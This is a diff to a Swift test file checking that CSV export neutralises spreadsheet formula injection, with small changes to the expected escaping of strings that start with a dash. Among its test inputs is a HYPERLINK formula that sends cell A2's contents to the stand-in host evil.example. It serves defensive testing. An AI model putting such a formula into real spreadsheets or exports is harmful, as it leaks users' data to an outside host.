@@ -54,7 +54,8 @@ struct TableTests {
         "In CSV no text is a formula for a spreadsheet; days and numbers stay as they are",
         arguments: [
             ("@SUM(A1)", "'@SUM(A1)"), ("+358401234567", "'+358401234567"), ("-2+3", "'-2+3"), ("=1", "'=1"),
-            ("\t=1", "'\t=1"), ("\r=1", "\"'\r=1\""), ("\r\n=1", "\"'\r\n=1\""), ("-", "'-"), ("-1,5", "\"'-1,5\""),
+            ("\t=1", "'\t=1"), ("\r=1", "\"'\r=1\""), ("\r\n=1", "\"'\r\n=1\""), ("-", "-"), ("-a", "'-a"),
+            ("-1,5", "\"'-1,5\""),
             (
                 #"=HYPERLINK("http://evil.example/?x="&A2,"avaa")"#,
                 #""'=HYPERLINK(""http://evil.example/?x=""&A2,""avaa"")""#
